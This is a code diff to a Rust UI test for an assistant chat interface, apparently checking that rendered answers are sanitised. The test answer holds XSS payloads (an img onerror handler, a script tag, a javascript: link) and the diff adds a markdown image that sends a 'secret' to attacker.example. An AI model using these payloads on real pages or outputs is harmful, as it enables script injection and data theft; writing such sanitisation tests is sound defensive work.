@@ -168,7 +168,7 @@ async fn settings_add_test_switch_try_and_import_servers() {
 async fn chat_with_an_assistant_approving_and_rejecting_calls() {
     let answer = "All three handled: **approved** echo and the image, rejected the sum.\n\n\
                   <img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script>\
-                  [a link](javascript:window.__pwned=3)";
+                  [a link](javascript:window.__pwned=3) ![leak](https://attacker.example/?q=secret)";
     let ui = Ui::start(vec![
         Turn::tool_calls(vec![
             ("mcp__everything__echo", json!({"message": "hello"})),
